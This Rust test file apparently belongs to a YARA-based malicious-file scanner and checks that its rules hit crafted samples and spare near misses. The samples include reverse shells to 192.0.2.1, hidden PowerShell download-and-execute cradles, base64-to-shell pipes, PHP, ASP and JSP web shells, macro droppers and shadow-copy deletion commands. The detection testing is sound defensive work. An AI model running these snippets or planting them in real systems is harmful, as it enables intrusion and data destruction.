use std::{
    fs,
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

use filesafety_model::Kind;

use crate::{
    facts::{Fact, FactSet, suspicions},
    yara::{Matched, Report, Rules, Scanner, Statement, facts, text_meta, texts_meta},
};

const AMPLE: Duration = Duration::from_secs(60);

/// All that the pack itself calls malware.
const TEST_FILES: [&str; 2] = ["EICAR-Test-File", "ClamAV-Test-File"];

/// In two parts, so that this source is none.
fn eicar() -> Vec<u8> {
    [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat().into_bytes()
}

fn signatures(scanner: &mut Scanner<'_>, object: &[u8]) -> Vec<String> {
    scanner.scan(object, AMPLE).unwrap().hits.into_iter().map(|hit| hit.signature).collect()
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// Base64 without meaning.
fn blob(len: usize) -> String {
    "QmxvYm9mTm9NZWFuaW5nMDEyMzQ1Njc4".chars().cycle().take(len).collect()
}

#[test]
fn every_rule_says_what_it_reports_and_why() {
    let rules = Rules::load(None).unwrap();
    for rule in rules.compiled.iter().filter(|rule| !rule.is_private()) {
        let keys: &[_] =
            if facts(&rule).next().is_some() { &["description", "reference", "why"] } else { &["description", "reference", "signature"] };
        for key in keys {
            assert!(text_meta(&rule, key).is_some_and(|text| text.len() > 10), "{} has no {key}", rule.identifier());
        }
        assert!(texts_meta(&rule, "fact").all(|word| Fact::parse(word).is_some()), "{} names no fact", rule.identifier());
        match Report::of(&rule) {
            Report::Detection(Kind::Suspicious) => {
                assert!(text_meta(&rule, "why").is_some(), "{} names no second fact", rule.identifier());
                assert!(text_meta(&rule, "signature").unwrap().starts_with("Suspicious."));
            }
            Report::Detection(Kind::Malware) => assert!(TEST_FILES.contains(&text_meta(&rule, "signature").unwrap())),
            Report::Nothing => assert!(facts(&rule).next().is_some(), "{} says nothing", rule.identifier()),
            Report::Detection(other) => panic!("{}: {other:?}", rule.identifier()),
        }
    }
}

#[test]
fn no_rule_of_the_pack_is_slow_or_questioned_by_the_compiler() {
    let rules = Rules::load(None).unwrap();
    let warnings: Vec<_> = rules.compiled.warnings().iter().map(|warning| warning.to_string()).collect();
    assert!(warnings.is_empty(), "{}", warnings.join("\n"));
}

#[test]
fn eicar_is_found_whole_at_any_offset_and_only_whole() {
    let rules = Rules::load(None).unwrap();
    let mut scanner = rules.scanner();
    for offset in [0, 1, 15, 16, 31, 67, 4096, 3 << 20] {
        let object = [vec![b'x'; offset], eicar(), vec![b'y'; offset % 50]].concat();
        assert_eq!(signatures(&mut scanner, &object), ["EICAR-Test-File"], "at {offset}");
    }
    for cut in [1, 33, 67] {
        assert_eq!(signatures(&mut scanner, &eicar()[..cut]), [""; 0], "{cut} bytes");
        assert_eq!(signatures(&mut scanner, &eicar()[cut..]), [""; 0], "without {cut} bytes");
    }
    for index in 0..68 {
        let mut object = eicar();
        object[index] ^= 0x80;
        assert_eq!(signatures(&mut scanner, &object), [""; 0], "byte {index} differs");
    }
}

/// The code of ClamAV's test file, from the rule, which has it in digits.
fn clamav() -> Vec<u8> {
    let source = include_str!("../../../rules/eicar.yar");
    let digits = source.split("rule ClamAV_Test_File").nth(1).unwrap().split(['{', '}']).find(|part| part.contains("BB 71")).unwrap();
    digits.split_whitespace().map(|digits| u8::from_str_radix(digits, 16).unwrap()).collect()
}

#[test]
fn clamavs_test_file_is_found_anywhere_and_only_whole() {
    let rules = Rules::load(None).unwrap();
    let mut scanner = rules.scanner();
    for offset in [0, 64, 4_096] {
        let object = [vec![0; offset], clamav(), vec![0; 100]].concat();
        assert_eq!(signatures(&mut scanner, &object), ["ClamAV-Test-File"], "at {offset}");
    }
    for index in 0..clamav().len() {
        let mut object = clamav();
        object[index] ^= 0x80;
        assert_eq!(signatures(&mut scanner, &object), [""; 0], "byte {index} differs");
    }
}

#[test]
fn eicar_is_malware() {
    let rules = Rules::load(None).unwrap();
    assert_eq!(rules.scanner().scan(&eicar(), AMPLE).unwrap().hits[0].kind, Kind::Malware);
}

type Objects = Vec<Vec<u8>>;
/// `(signature, what must hit, what must not)`; each near miss lacks one of the facts.
type Case = (&'static str, Objects, Objects);

fn cases() -> Vec<Case> {
    let mut cases = documents_and_programs();
    cases.extend(scripts());
    cases.extend(server_pages());
    cases
}

fn bytes<const N: usize>(texts: [&str; N]) -> Objects {
    texts.iter().map(|text| text.as_bytes().to_vec()).collect()
}

fn documents_and_programs() -> Vec<Case> {
    let program = |text: &str| [b"MZ\x90\0".as_slice(), text.as_bytes()].concat();
    let program_wide = |text: &str| [b"MZ\x90\0".as_slice(), &wide(text)].concat();
    let shortcut = |text: &str| [b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".as_slice(), &wide(text)].concat();
    let both = "vssadmin.exe Delete Shadows /All /Quiet\0bcdedit /set {default} recoveryenabled No\0";
    let padded = |blanks: &str| shortcut(&format!("C:\\Windows\\System32\\cmd.exe\0 {} /c start", blanks.repeat(40)));
    vec![
        (
            "Suspicious.Lnk.HidesArguments",
            vec![padded("    "), padded("\t"), padded("\n"), padded("\n\r")],
            vec![padded(" /q"), padded(" \t")],
        ),
        (
            "Suspicious.Desktop.Downloads",
            bytes([
                "[Desktop Entry]\nType=Application\nExec=sh -c \"curl -s https://example.com/a | sh\"\n",
                "[Desktop Entry]\nExec=bash -c 'wget -O /tmp/a http://example.com/a; chmod +x /tmp/a; /tmp/a'\n",
                "# lure\n[Desktop Entry]\nName=report.pdf\nExec=sh -c 'echo eA== | base64 -d | bash'\n",
            ]),
            bytes([
                "[Desktop Entry]\nExec=sh -c 'curl https://example.com/a > ~/a.txt'\n",
                "[Desktop Entry]\nExec=browser https://example.com/curl | less\n",
                "Exec=sh -c 'curl -s https://example.com/a | sh'\n",
            ]),
        ),
        (
            "Suspicious.Win.RecoveryDestroyed",
            vec![program(both), program_wide(both), program("wmic shadowcopy delete & wbadmin delete catalog -quiet")],
            vec![program("vssadmin delete shadows /all"), program("bcdedit /set {default} recoveryenabled no"), both.into()],
        ),
        (
            "Suspicious.Pdf.LaunchesInterpreter",
            bytes([
                "%PDF-1.4\n1 0 obj <</Type/Action/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>> endobj",
                "<< /S /#4caunch /F << /Type /Filespec /F (C:\\\\Windows\\\\System32\\\\mshta.exe) >> >>",
                "<< /S /Launch /Win << /F (x.pdf) /P (/c powershell -File a.ps1) >> >>",
            ]),
            bytes([
                "%PDF-1.4\n1 0 obj <</Type/Action/S/Launch/F(manual.pdf)>> endobj",
                "%PDF-1.4\n1 0 obj <</Type/Action/S/URI/URI(http://example.com/)/F(cmd.exe)>> endobj",
                "%PDF-1.4\n(how cmd.exe works) /S /Launch /F (cmdlets.pdf)",
            ]),
        ),
        (
            "Suspicious.Pdf.OpensWhatItCarries",
            bytes([
                "%PDF-1.7\n<</EmbeddedFiles 3 0 R>> <</S/JavaScript/JS(this.exportDataObject({ cName: \"a.doc\", nLaunch: 2 });)>>",
                "%PDF-1.7\n<</EmbeddedFile 3 0 R>> <</JS(this.exportDataObject\\({cName:'a', nLaunch:1}\\))>>",
            ]),
            bytes([
                "%PDF-1.7\n<</EmbeddedFiles 3 0 R>> <</JS(this.exportDataObject({ cName: \"a.doc\", nLaunch: 0 });)>>",
                "%PDF-1.7\n<</JS(this.exportDataObject({ cName: \"a.doc\", nLaunch: 2 });)>>",
                "/EmbeddedFiles exportDataObject({ cName: \"a.doc\", nLaunch: 2 })",
            ]),
        ),
        (
            "Suspicious.Lnk.Downloads",
            vec![
                shortcut("powershell.exe -c (New-Object Net.WebClient).DownloadFile('http://x/a','a')"),
                shortcut("C:\\Windows\\System32\\mshta.exe https://example.com/a.hta"),
                shortcut("cmd.exe /c curl -o a.exe https://example.com/a"),
                shortcut(&format!("powershell -enc {}", blob(60))),
            ],
            vec![
                shortcut("C:\\Windows\\System32\\cmd.exe /k cd C:\\Projects"),
                shortcut("C:\\Program Files\\Browser\\browser.exe https://example.com/"),
                wide("powershell.exe (New-Object Net.WebClient).DownloadFile('http://x/a','a')"),
            ],
        ),
        (
            "Suspicious.Vba.AutorunDownloads",
            bytes([
                "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\n URLDownloadToFile 0, u, f, 0, 0\r\n Shell \"f\", 0\r\nEnd Sub",
                "Attribute VB_Name = \"M\"\r\nPrivate Sub Workbook_Open()\r\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
                 CreateObject(\"WScript.Shell\").Run f\r\nEnd Sub",
            ]),
            bytes([
                "Attribute VB_Name = \"M\"\r\nSub Fetch()\r\n URLDownloadToFile 0, u, f, 0, 0\r\n Shell \"f\", 0\r\nEnd Sub",
                "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\n Shell \"calc.exe\", 0\r\nEnd Sub",
                "Attribute VB_Name = \"M\"\r\nSub Document_Open()\r\n Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\nEnd Sub",
            ]),
        ),
    ]
}

fn scripts() -> Vec<Case> {
    let b = blob(120);
    let objects = ["WScript.Shell", "MSXML2.XMLHTTP", "ADODB.Stream"].map(|name| format!("Set o = CreateObject(\"{name}\")\r\n"));
    let dropper = format!("{}s.SaveToFile f, 2\r\nw.Run f", objects.concat());
    let hidden = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"";
    vec![
        (
            "Suspicious.PowerShell.HiddenDownload",
            vec![
                hidden.into(),
                wide(hidden),
                format!("cmd /c PowerShell -NoP -WindowStyle Hidden -EncodedCommand {b}").into(),
                b"powershell Invoke-WebRequest http://x/a -OutFile a; start powershell -windowstyle hidden -file a".to_vec(),
            ],
            bytes([
                "powershell -NoProfile -ExecutionPolicy Bypass -Command \"iex ((New-Object Net.WebClient).DownloadString('https://x/install.ps1'))\"",
                "powershell.exe -WindowStyle Hidden -File C:\\jobs\\backup.ps1",
                "powershell.exe -WindowStyle Hidden -File a.ps1\r\nInvoke-WebRequest http://x/",
            ]),
        ),
        (
            "Suspicious.PowerShell.DecodesAndRuns",
            vec![
                format!("IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($(New-Object IO.MemoryStream(,[Convert]::FromBase64String('{b}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()").into(),
                wide(&format!("$m=[Convert]::FromBase64String(\"{b}\"); $d=New-Object IO.Compression.DeflateStream($m,0); Invoke-Expression $d")),
            ],
            vec![
                format!("$d = New-Object IO.Compression.GzipStream([Convert]::FromBase64String('{b}'))").into(),
                format!("IEX ([Convert]::FromBase64String('{b}'))").into(),
            ],
        ),
        (
            "Suspicious.Script.DownloadsAndRuns",
            vec![dropper.clone().into(), wide(&dropper), dropper.replace("CreateObject", "new ActiveXObject").into()],
            vec![
                dropper.replace("SaveToFile", "Write").into(),
                dropper.replace("MSXML2.XMLHTTP", "Scripting.FileSystemObject").into(),
                dropper.replace("w.Run", "WScript.Echo").into(),
            ],
        ),
        (
            "Suspicious.Python.DecodesAndRuns",
            vec![
                format!("import base64\nexec(base64.b64decode('{b}'))\n").into(),
                format!("exec(zlib.decompress(base64.b64decode(b'{b}')))").into(),
                format!("exec(__import__('base64').b64decode(\"{b}\"))").into(),
            ],
            vec![
                format!("icon = base64.b64decode('{b}')\nexec(code)\n").into(),
                b"exec(base64.b64decode(argument))".to_vec(),
                b"exec(base64.b64decode('cHJpbnQoMSk='))".to_vec(),
            ],
        ),
        (
            "Suspicious.Shell.ReverseShell",
            bytes([
                "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
                "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'",
            ]),
            vec![
                b"#!/bin/bash\nexec 3<>/dev/tcp/192.0.2.1/80\nbash -i\n".to_vec(),
                format!("An article says: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1{}", " and so on".repeat(200)).into(),
            ],
        ),
        (
            "Suspicious.Shell.DecodesAndRuns",
            vec![
                format!("#!/bin/sh\necho {b} | base64 -d | sh\n").into(),
                format!("echo -n '{b}'|base64 --decode|sudo /bin/bash").into(),
                format!("base64 -d <<< \"{b}\" | bash").into(),
            ],
            vec![
                format!("echo {b} | base64 -d | tar xz\n").into(),
                b"curl -fsSL https://example.com/install.sh | sh\n".to_vec(),
                b"echo \"$KEY\" | base64 -d | sh\n".to_vec(),
            ],
        ),
    ]
}

fn server_pages() -> Vec<Case> {
    let b = blob(120);
    vec![
        (
            "Suspicious.Php.RunsRequest",
            bytes([
                "<?php @eval($_POST['x']); ?>",
                "GIF89a<?php system ( $_GET[\"cmd\"] );",
                "<?= assert(base64_decode(str_rot13($_REQUEST[0])));",
                "<?PHP\nshell_exec(@$_COOKIE['c']); eval(${'_POST'}[1]);",
            ]),
            bytes([
                "<?php echo htmlspecialchars($_POST['x']); eval($code);",
                "In PHP never write eval($_POST['x']).",
                "<?php $system = $_GET['system']; filesystem($_GET['x']);",
            ]),
        ),
        (
            "Suspicious.Php.DecodesAndRuns",
            vec![
                format!("<?php eval(gzinflate(base64_decode('{b}')));").into(),
                format!("<?php eval(\"?>\".gzuncompress(str_rot13(base64_decode(\"{b}\"))));").into(),
            ],
            vec![
                format!("<?php eval(base64_decode('{b}'));").into(),
                format!("<?php $icon = gzinflate(base64_decode('{b}'));").into(),
                b"<?php eval(gzinflate(base64_decode($data)));".to_vec(),
            ],
        ),
        (
            "Suspicious.Asp.RunsRequest",
            bytes([
                "<%eval request(\"x\")%>",
                "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>",
                "<script language=vbs runat=server>execute(request.form(\"x\"))</script>",
            ]),
            bytes([
                "<% Response.Write Server.HTMLEncode(Request(\"x\")) %>",
                "eval request(\"x\")",
                "<% total = evaluate(request_count) %>",
            ]),
        ),
        (
            "Suspicious.Jsp.RunsRequest",
            bytes([
                "<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>",
                "<% Process p = Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",request.getParameter(\"c\")}); %>",
            ]),
            bytes([
                "<% out.print(request.getParameter(\"c\")); Runtime.getRuntime().exec(\"date\"); %>",
                "Runtime.getRuntime().exec(request.getParameter(\"c\"));",
            ]),
        ),
    ]
}

#[test]
fn every_rule_hits_what_it_is_for_and_spares_near_misses() {
    let rules = Rules::load(None).unwrap();
    let mut scanner = rules.scanner();
    let mut wrong = Vec::new();
    for (signature, hits, near_misses) in cases() {
        for object in hits {
            let found = signatures(&mut scanner, &object);
            if found != [signature] {
                wrong.push(format!("{signature}: {found:?} in {}", String::from_utf8_lossy(&object)));
            }
        }
        for object in near_misses {
            let found = signatures(&mut scanner, &object);
            if !found.is_empty() {
                wrong.push(format!("{signature}: near miss hit by {found:?}: {}", String::from_utf8_lossy(&object)));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// `(rule, what it holds of, what not)`
fn fact_cases() -> Vec<Case> {
    let shortcut = |text: &str| [b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".as_slice(), &wide(text)].concat();
    let page = |script: &str, more: &str| format!("<html><script>{script}\n{more}</script></html>").into_bytes();
    let codes = "x = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & Chr(101) & Chr(108) & Chr(108) & Chr(32) & Chr(45) & y";
    vec![
        (
            "Shortcut_Starts_Interpreter",
            vec![shortcut("C:\\Windows\\System32\\cmd.exe\0/k"), shortcut("\\powershell.exe -NoLogo")],
            vec![shortcut("C:\\Program Files\\Browser\\browser.exe\0"), wide("cmd.exe /k"), shortcut("pwshell.exec")],
        ),
        (
            "Script_Starts_Programs",
            bytes([
                "CreateObject(\"WScript.Shell\").Run \"calc\"",
                "var s = new ActiveXObject('WScript.Shell'); s.Exec('calc')",
                "GetObject(\"winmgmts:root\\cimv2:Win32_Process\").Create(\"calc\")",
            ]),
            bytes([
                "CreateObject(\"WScript.Shell\").RegRead(\"HKLM\")",
                "shell.Run \"calc\"",
                "MZ CreateObject(\"WScript.Shell\").Run \"calc\"",
            ]),
        ),
        (
            "Script_Decodes_What_It_Runs",
            vec![
                codes.into(),
                wide(codes),
                b"ExecuteGlobal(StrReverse(s))".to_vec(),
                b"eval(String.fromCharCode(97, 108))".to_vec(),
                b"CreateObject(StrReverse(\"llehS.tpircSW\"))".to_vec(),
            ],
            bytes([
                "line = line & Chr(13) & Chr(10)",
                "eval(function(p,a,c,k,e,d){})",
                "StrReverse(\"abc\")",
                "JSON.parse(atob(x)); eval(y)",
            ]),
        ),
        (
            "Script_Writes_Programs",
            bytes([
                "Set s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile \"a.exe\", 2",
                "var f = new ActiveXObject('Scripting.FileSystemObject'); f.CreateTextFile('c:\\\\a.vbs')",
            ]),
            bytes([
                "Set s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile \"report.csv\", 2",
                "var f = new ActiveXObject('Scripting.FileSystemObject'); f.FileExists('a.exe')",
                "s.SaveToFile \"a.exe\", 2",
            ]),
        ),
        (
            "Page_Saves_What_It_Carries",
            vec![
                page(&format!("var b = new Blob([f(atob('{}'))]); a.download = 'x.zip';", blob(240)), ""),
                page(&format!("var t = 'UEsDBBQA{}'; navigator.msSaveBlob(new Blob([atob(t)]))", blob(80)), ""),
            ],
            vec![
                page("var b = new Blob([rows.join(',')]); a.download = 'table.csv';", ""),
                page(&format!("var t = '{}'; var b = new Blob([atob(t)]); a.download = 'x.png'", blob(240)), ""),
                page(&format!("img.src = atob('{}'); a.download = 'x'", blob(240)), ""),
            ],
        ),
        (
            "Page_Saves_Without_Being_Asked",
            vec![
                page("var b = new Blob([t]); a.download = 'x.zip'; a.click();", "window.onload = f"),
                page("setTimeout(function() { a.setAttribute('download', 'x'); a.href = u(new Blob([t])); a.click() }, 9)", ""),
            ],
            vec![page("var b = new Blob([t]); a.download = 'x.zip'; a.click();", ""), page("button.click()", "window.onload = f")],
        ),
        (
            "Application_Of_A_Page_Hides",
            bytes([
                "<html><HTA:APPLICATION windowstate=\"minimize\" showintaskbar=\"no\"><script>f()</script>",
                "<hta:application id=a><script>window.resizeTo(0, 0)</script>",
                "<hta:application id=a><script language=VBScript>f: self.close</script>",
            ]),
            bytes([
                "<hta:application id=a windowstate=\"maximize\"><script>window.resizeTo(800, 600)</script>",
                "<html><script>window.close()</script>",
            ]),
        ),
        (
            "Pdf_Script_Starts_What_The_Document_Carries",
            bytes(["this.exportDataObject({ cName: \"a.doc\", nLaunch: 2 });"]),
            bytes(["this.exportDataObject({ cName: \"a.doc\", nLaunch: 0 });", "%PDF-1.7 this.exportDataObject({ nLaunch: 2 });"]),
        ),
        (
            "Pdf_Script_Fetches_A_Program",
            bytes(["app.launchURL(\"https://example.com/update.exe\", true);", "app.launchURL('http://x/a.hta?b=c')"]),
            bytes(["app.launchURL(\"https://example.com/manual.pdf\", true);", "launch('https://example.com/update.exe')"]),
        ),
        (
            "Pdf_Script_Lays_Out_Machine_Code",
            vec![format!("var c = unescape('{}'); while (c.length < 0x40000) c += c;", "%u9090".repeat(30)).into()],
            vec![
                format!("var c = unescape('{}');", "%u9090".repeat(30)).into(),
                format!("var c = unescape('{}'); while (c.length < 0x40000) c += c;", "%u0041".repeat(10)).into(),
            ],
        ),
        (
            "Desktop_Entry_Starts_Shell",
            bytes(["[Desktop Entry]\nExec=sh -c \"xterm\"\n", "[Desktop Entry]\nType=Application\nExec=/usr/bin/python3 -c 'x'\n"]),
            bytes(["[Desktop Entry]\nExec=shotwell -c x\n", "Exec=sh -c x\n"]),
        ),
    ]
}

#[test]
fn facts_hold_of_what_they_name_and_are_no_detection() {
    let rules = Rules::load(None).unwrap();
    let mut scanner = rules.scanner();
    let mut wrong = Vec::new();
    for (name, holds, near_misses) in fact_cases() {
        let described = rules.compiled.iter().find(|rule| rule.identifier() == name).and_then(|rule| text_meta(&rule, "description"));
        for (object, holds) in holds.into_iter().map(|object| (object, true)).chain(near_misses.into_iter().map(|object| (object, false))) {
            let Matched { hits, statements } = scanner.scan(&object, AMPLE).unwrap();
            let stated =
                statements.iter().any(|statement| matches!(statement, Statement::Fact(_, detail) if Some(detail.as_str()) == described));
            let mut facts = FactSet::default();
            statements.iter().for_each(|statement| match statement {
                Statement::Fact(fact, _) => facts.insert(*fact),
                Statement::Note(_) => {}
            });
            if stated != holds || !hits.is_empty() || suspicions(facts).next().is_some() {
                wrong.push(format!("{name}: {stated} {hits:?} {statements:?} of {}", String::from_utf8_lossy(&object)));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn two_facts_of_the_pack_are_suspicious_together() {
    let rules = Rules::load(None).unwrap();
    let mut scanner = rules.scanner();
    let smuggled = format!(
        "<html><body onload='f()'><script>function f() {{ var b = new Blob([g(atob('{}'))]); a.download = 'x.zip'; a.click() }}</script>",
        blob(240)
    );
    for (script, signature) in [
        // It decodes its command and starts it.
        ("Set w = CreateObject(\"WScript.Shell\")\r\nExecute(StrReverse(s))\r\nw.Run t", "FileSafety.Suspicious.DecodesAndExecutes"),
        (&smuggled, "FileSafety.Suspicious.RunsAndDrops"),
        (
            "<hta:application windowstate=minimize showintaskbar=no><script>new ActiveXObject('WScript.Shell').Run('calc')</script>",
            "FileSafety.Suspicious.RunsProgram",
        ),
    ] {
        let Matched { hits, statements } = scanner.scan(script.as_bytes(), AMPLE).unwrap();
        let mut facts = FactSet::default();
        for statement in statements {
            match statement {
                Statement::Fact(fact, _) => facts.insert(fact),
                Statement::Note(note) => panic!("{note}"),
            }
        }
        assert_eq!((hits, suspicions(facts).collect::<Vec<_>>()), (vec![], vec![signature]), "{script}");
    }
}

#[test]
fn every_rule_has_its_cases() {
    let rules = Rules::load(None).unwrap();
    let covered: Vec<_> = cases().into_iter().map(|case| case.0).collect();
    let stated: Vec<_> = fact_cases().into_iter().map(|case| case.0).collect();
    for rule in rules.compiled.iter() {
        let Some(signature) = text_meta(&rule, "signature") else {
            assert!(stated.contains(&rule.identifier()), "{}", rule.identifier());
            continue;
        };
        assert!(TEST_FILES.contains(&signature) || covered.contains(&signature), "{signature}");
    }
}

/// Regular files below `root` of at most `max_bytes`, until there are `most`, in the order of their names, links not followed.
fn system_files(root: &Path, max_bytes: u64, most: usize, into: &mut Vec<PathBuf>) {
    let mut entries: Vec<_> = fs::read_dir(root).into_iter().flatten().flatten().collect();
    entries.sort_by_key(|entry| entry.file_name());
    for entry in entries {
        let Ok(meta) = entry.metadata() else { continue };
        if into.len() >= most {
            return;
        } else if meta.is_dir() && entry.file_name() != "clamav-testfiles" {
            system_files(&entry.path(), max_bytes, most, into);
        } else if meta.is_file() && meta.len() <= max_bytes {
            into.push(entry.path());
        }
    }
}

/// 2,000 files; with `FILESAFETY_CLEAN_ROOT` all below that folder instead.
#[test]
fn system_files_are_clean() {
    let mut files = Vec::new();
    if let Some(root) = std::env::var_os("FILESAFETY_CLEAN_ROOT") {
        system_files(Path::new(&root), u64::MAX, usize::MAX, &mut files);
    } else {
        for (root, most) in [("/usr/bin", 700), ("/usr/share", 1300), ("/usr/lib", 2000)] {
            system_files(Path::new(root), 4 << 20, most, &mut files);
        }
    }
    let rules = Rules::load(None).unwrap();
    let mut scanner = rules.scanner();
    let (begin, mut scanned, mut size) = (Instant::now(), 0, 0);
    let mut wrong = Vec::new();
    for path in files {
        let Ok(object) = fs::read(&path) else { continue };
        let found = scanner.scan(&object, AMPLE);
        scanned += 1;
        size += object.len();
        if !found.as_ref().is_ok_and(|found| found.hits.is_empty()) {
            wrong.push(format!("{}: {found:?}", path.display()));
        }
    }
    println!("{scanned} clean files, {size} bytes, {:?}, {} hits", begin.elapsed(), wrong.len());
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
